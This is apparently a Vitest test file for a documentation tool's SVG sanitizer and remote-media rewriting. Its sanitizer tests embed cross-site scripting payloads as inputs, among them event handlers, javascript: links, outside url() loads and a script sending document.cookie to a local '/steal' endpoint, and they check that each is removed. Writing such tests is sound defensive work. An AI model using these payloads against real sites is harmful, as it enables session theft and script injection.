/**
 * The parts of remote media that need no network: an SVG from another host reduced to
 * drawing elements (scripts, handlers, foreign content and outside references gone, the
 * case of XML names kept), media references found in a page body and rewritten (a local
 * href, an image left out becoming its alt text), and the types taken with the extension
 * each gets, every one of them served with its type by the bundle server.
 */
import { describe, expect, it } from 'vitest';
import { sanitizeSvg } from '../../../src/render/media/sanitize-svg.js';
import { findRemoteMedia, locateRemoteMedia, rewriteRemoteMedia } from '../../../src/render/media/media-refs.js';
import { extensionFor, MEDIA_EXTENSIONS, mediaTypeOf } from '../../../src/render/media/media-types.js';
import { contentTypeOf } from '../../../src/host/content-type.js';
import { remoteMediaMode } from '../../../src/render/media/remote-media.js';

describe('sanitizeSvg', () => {
  it('keeps the drawing and removes what could run or load anything', () => {
    const result = sanitizeSvg(
      '<?xml version="1.0"?><!DOCTYPE svg><svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 10 10" onload="alert(1)">' +
        '<title>T</title><style>*{fill:url(https://evil.example/x)}</style><script>alert(document.cookie)</script>' +
        '<defs><linearGradient id="g" gradientUnits="userSpaceOnUse"><stop offset="0" stop-color="red"/></linearGradient></defs>' +
        '<a href="javascript:alert(1)"><rect width="10" height="10" fill="url(#g)"/></a><rect fill="url(https://evil.example/p)" style="fill:red"/>' +
        '<foreignObject><div xmlns="http://www.w3.org/1999/xhtml" onclick="alert(1)">x</div></foreignObject><use xlink:href="#g"/><image href="https://evil.example/p.png"/>' +
        '<text x="1">a &amp; &lt;b&gt;<![CDATA[ <i> ]]></text></svg><svg><script>after the root</script></svg>',
    );
    expect(result).toEqual({
      svg:
        '<svg viewBox="0 0 10 10" xmlns="http://www.w3.org/2000/svg"><defs><linearGradient id="g" gradientUnits="userSpaceOnUse"><stop offset="0" stop-color="red"></stop></linearGradient></defs>' +
        '<rect width="10" height="10" fill="url(#g)"></rect><rect style="fill:red"></rect><foreignObject><div xmlns="http://www.w3.org/1999/xhtml">x</div></foreignObject><use href="#g"></use><text x="1">a &amp; &lt;b&gt; &lt;i&gt; </text></svg>',
      removed: ['style', 'script', 'image'],
      removedAttributes: ['onload', 'fill', 'onclick'],
    });
  });

  it('keeps what standalone files draw with: style sheets, filters, markers, fragment uses, animations of presentation', () => {
    const svg =
      '<svg viewBox="0 0 4 4"><style type="text/css"><![CDATA[ .a > rect { fill: url(#g); stroke: #000 } ]]></style>' +
      '<defs><filter id="f"><feGaussianBlur stdDeviation="1"/><feOffset dx="1"/></filter><marker id="m" refX="1" markerWidth="2"><path d="M0 0"/></marker><symbol id="s"><rect width="1"/></symbol></defs>' +
      '<g class="a" filter="url(#f)"><rect width="2" height="2" marker-end="url(#m)"><animate attributeName="opacity" values="0;1" dur="1s" repeatCount="indefinite"/></rect></g>' +
      '<use xlink:href="#s"/><animateTransform attributeName="transform" type="rotate" from="0" to="90" dur="1s"/></svg>';
    expect(sanitizeSvg(svg)).toEqual({
      svg:
        '<svg viewBox="0 0 4 4" xmlns="http://www.w3.org/2000/svg"><style type="text/css"> .a &gt; rect { fill: url(#g); stroke: #000 } </style>' +
        '<defs><filter id="f"><feGaussianBlur stdDeviation="1"></feGaussianBlur><feOffset dx="1"></feOffset></filter><marker id="m" refX="1" markerWidth="2"><path d="M0 0"></path></marker><symbol id="s"><rect width="1"></rect></symbol></defs>' +
        '<g class="a" filter="url(#f)"><rect width="2" height="2" marker-end="url(#m)"><animate attributeName="opacity" values="0;1" dur="1s" repeatCount="indefinite"></animate></rect></g>' +
        '<use href="#s"></use><animateTransform attributeName="transform" type="rotate" from="0" to="90" dur="1s"></animateTransform></svg>',
      removed: [],
      removedAttributes: [],
    });
  });

  it('removes style sheets, animations and references that reach outside the file or could run script', () => {
    const result = sanitizeSvg(
      '<svg><style>@import url(/x.css);</style><style>rect{fill:u\\72l(http://127.0.0.1/t)}</style><style>rect{background:url( "http://127.0.0.1/t")}</style>' +
        '<rect><animate attributeName="href" to="javascript:alert(1)"/><set attributeName="onmouseover" to="alert(1)"/></rect>' +
        '<use href="http://127.0.0.1/sprite.svg#i"/><use xlink:href="data:image/svg+xml,&lt;svg onload=alert(1)&gt;"/><rect style="fill:url(http://127.0.0.1/p)" xml:base="http://127.0.0.1/"/>' +
        '<rect fill="\\75rl(http://127.0.0.1/f#p)" filter="u\\72l(http://127.0.0.1/f#x)"/>' +
        '<feImage href="http://127.0.0.1/i.png"/><textPath href="#p">t</textPath></svg>',
    )!;
    expect(result.svg).toBe('<svg xmlns="http://www.w3.org/2000/svg"><rect></rect><use></use><use></use><rect></rect><rect></rect></svg>');
    expect(result.removed).toEqual(['style', 'animate', 'set', 'feImage', 'textPath']);
    expect(result.removedAttributes).toEqual(['href', 'xlink:href', 'style', 'fill', 'filter']);
  });

  it('keeps the HTML labels of a Mermaid export inside <foreignObject>, in the XHTML namespace', () => {
    const label = (text: string) =>
      `<g class="label" transform="translate(-20, -12)"><rect></rect><foreignObject width="40" height="24"><div xmlns="http://www.w3.org/1999/xhtml" style="display: table-cell; white-space: nowrap; line-height: 1.5;"><span class="nodeLabel"><p>${text}</p></span></div></foreignObject></g>`;
    const result = sanitizeSvg(`<svg id="m" width="100%" viewBox="0 0 80 40"><style>#m .nodeLabel{color:#333}</style><g class="nodes">${label('__start__')}${label('agent &amp; tools<br>loop')}</g></svg>`)!;
    expect(result.svg).toBe(
      '<svg id="m" width="100%" viewBox="0 0 80 40" xmlns="http://www.w3.org/2000/svg"><style>#m .nodeLabel{color:#333}</style><g class="nodes">' +
        '<g class="label" transform="translate(-20, -12)"><rect></rect><foreignObject width="40" height="24"><div xmlns="http://www.w3.org/1999/xhtml" style="display: table-cell; white-space: nowrap; line-height: 1.5;"><span class="nodeLabel"><p>__start__</p></span></div></foreignObject></g>' +
        '<g class="label" transform="translate(-20, -12)"><rect></rect><foreignObject width="40" height="24"><div xmlns="http://www.w3.org/1999/xhtml" style="display: table-cell; white-space: nowrap; line-height: 1.5;"><span class="nodeLabel"><p>agent &amp; tools<br/>loop</p></span></div></foreignObject></g>' +
        '</g></svg>',
    );
    expect(result.removed).toEqual([]);
    expect(result.removedAttributes).toEqual([]);
  });

  it('strips everything active from the HTML inside <foreignObject>: scripts, handlers, embeds, javascript: links, outside loads, nested SVG', () => {
    const hostile =
      '<svg viewBox="0 0 8 8"><foreignObject x="0" y="0" width="8" height="8">' +
      '<div xmlns="http://www.w3.org/1999/xhtml" onclick="alert(1)" onmouseover="alert(2)" class="box">' +
      '<script>fetch("http://127.0.0.1/steal?c=" + document.cookie)</script>Label' +
      '<iframe src="http://127.0.0.1/admin"></iframe><object data="http://127.0.0.1/o.swf"></object><embed src="http://127.0.0.1/e"/>' +
      '<a href="javascript:alert(document.domain)">click</a><span style="background:url(http://127.0.0.1/track.png)">styled</span>' +
      '<span style="background:u\\72l(http://127.0.0.1/t)">escaped</span><img src="http://127.0.0.1/pixel.png" onerror="alert(3)"/>' +
      '<form action="http://127.0.0.1/post"><input name="q"/><button>Go</button></form><style>p{background:url(http://127.0.0.1/s)}</style>' +
      '<svg><foreignObject><iframe src="http://127.0.0.1/nested"></iframe></foreignObject><script>alert(4)</script></svg>' +
      '<math><mi>x</mi></math><p data-x="1" aria-label="ok" id="p1" title="t">kept</p></div></foreignObject>' +
      '<foreignObject width="1" height="1"><iframe xmlns="http://www.w3.org/1999/xhtml" src="http://127.0.0.1/x"></iframe></foreignObject></svg>';
    const result = sanitizeSvg(hostile)!;
    expect(result.svg).toBe(
      '<svg viewBox="0 0 8 8" xmlns="http://www.w3.org/2000/svg"><foreignObject x="0" y="0" width="8" height="8"><div xmlns="http://www.w3.org/1999/xhtml" class="box">' +
        'Labelclick<span>styled</span><span>escaped</span><p data-x="1" aria-label="ok" id="p1" title="t">kept</p></div></foreignObject></svg>',
    );
    expect(result.svg).not.toMatch(/<script|\bon[a-z]+=|javascript:|127\.0\.0\.1|<iframe|<object|<embed|<img|<form|<input|<style|url\(/i);
    expect(result.removed).toEqual(['script', 'iframe', 'object', 'embed', 'img', 'form', 'style', 'svg', 'math']);
    expect(result.removedAttributes).toEqual(['onclick', 'onmouseover', 'href', 'style']);
  });

  it('refuses a document whose root is not <svg>', () => {
    expect(sanitizeSvg('<html><body><svg></svg></body></html>')).toBeNull();
    expect(sanitizeSvg('GIF89a')).toBeNull();
  });

  it('moves nothing out of the SVG namespace', () => {
    expect(sanitizeSvg('<svg xmlns="http://www.w3.org/1999/xhtml"><path d="M0 0"/></svg>')?.svg).toBe('<svg xmlns="http://www.w3.org/2000/svg"><path d="M0 0"></path></svg>');
  });
});

describe('media references in a page body', () => {
  const body =
    '<p>Code: <code>src="https://in.example/code.png"</code></p><img src="https://cdn.example/a.png?x=1&amp;y=2" alt="A &quot;diagram&quot;" loading="lazy">' +
    '<video controls poster="//cdn.example/p.jpg"><source src="http://cdn.example/v.mp4" type="video/mp4"><track src="https://cdn.example/c.vtt" kind="captions"></video>' +
    '<img src="images/local.png" alt="local"><a href="https://cdn.example/a.png">link</a><img src="https://cdn.example/deco.png" alt="">';

  it('finds media attributes only, in document order, with what each is', () => {
    expect(findRemoteMedia(body)).toEqual([
      { url: 'https://cdn.example/a.png?x=1&y=2', kind: 'image' },
      { url: '//cdn.example/p.jpg', kind: 'poster image' },
      { url: 'http://cdn.example/v.mp4', kind: 'media source' },
      { url: 'https://cdn.example/c.vtt', kind: 'text track' },
      { url: 'https://cdn.example/deco.png', kind: 'image' },
    ]);
  });

  it('names each with the file and line the renderer recorded, else the page file', () => {
    const refs = locateRemoteMedia(body, [{ url: 'https://cdn.example/a.png?x=1&y=2', file: 'snippets/a.mdx', line: 3 }, { url: 'http://cdn.example/v.mp4', file: 'page.mdx', line: 9 }], 'page.mdx');
    expect(refs.map((r) => [r.file, r.line])).toEqual([['snippets/a.mdx', 3], ['page.mdx', undefined], ['page.mdx', 9], ['page.mdx', undefined], ['page.mdx', undefined]]);
  });

  it('rewrites bundled ones and replaces or drops the rest', () => {
    const out = rewriteRemoteMedia(body, (url) => (url.includes('a.png') ? { href: '../assets/media/a.1234abcd.png' } : url.includes('v.mp4') ? 'keep' : 'omit'));
    expect(out).toBe(
      '<p>Code: <code>src="https://in.example/code.png"</code></p><img src="../assets/media/a.1234abcd.png" alt="A &quot;diagram&quot;" loading="lazy">' +
        '<video controls><source src="http://cdn.example/v.mp4" type="video/mp4"></video>' +
        '<img src="images/local.png" alt="local"><a href="https://cdn.example/a.png">link</a>',
    );
    expect(rewriteRemoteMedia('<img src="https://cdn.example/x.png" alt="Flow <chart>">', () => 'omit')).toBe('<span class="q-media-alt">Flow &lt;chart&gt;</span>');
  });
});

describe('media types', () => {
  it('takes image, video and audio types only, by their declared type', () => {
    expect(mediaTypeOf('Image/PNG; charset=binary')).toBe('image/png');
    expect(extensionFor('image/svg+xml')).toEqual({ ext: 'svg' });
    expect(extensionFor('video/quicktime')).toEqual({ ext: 'mov' });
    expect(extensionFor('text/html')).toEqual({ refused: 'its type is text/html, not an image, video or audio type' });
    expect(extensionFor('image/heic')).toEqual({ refused: 'its type image/heic is not one that browsers show' });
    expect(extensionFor('')).toHaveProperty('refused');
  });

  it('gives only extensions the bundle server serves with their type', () => {
    for (const ext of MEDIA_EXTENSIONS) expect(contentTypeOf(`assets/media/x.1234abcd.${ext}`), ext).not.toBe('application/octet-stream');
  });
});

describe('the remote media mode', () => {
  it('bundles for air-gapped exports and keeps for the others unless told, and checks the limits', () => {
    expect(remoteMediaMode({ remoteMedia: { mode: undefined, maxFileBytes: undefined } }, 'air-gapped')).toBe('bundle');
    expect(remoteMediaMode({}, 'client-hosted')).toBe('keep');
    expect(remoteMediaMode({ remoteMedia: { mode: 'omit' } }, 'cloud')).toBe('omit');
    expect(() => remoteMediaMode({ remoteMedia: { maxTotalBytes: 0 } }, 'cloud')).toThrow('remote media: maxTotalBytes must be a positive whole number (got 0)');
    expect(() => remoteMediaMode({ remoteMedia: { mode: 'keep' } }, 'air-gapped')).toThrow(/air-gapped export cannot keep references/);
  });
});
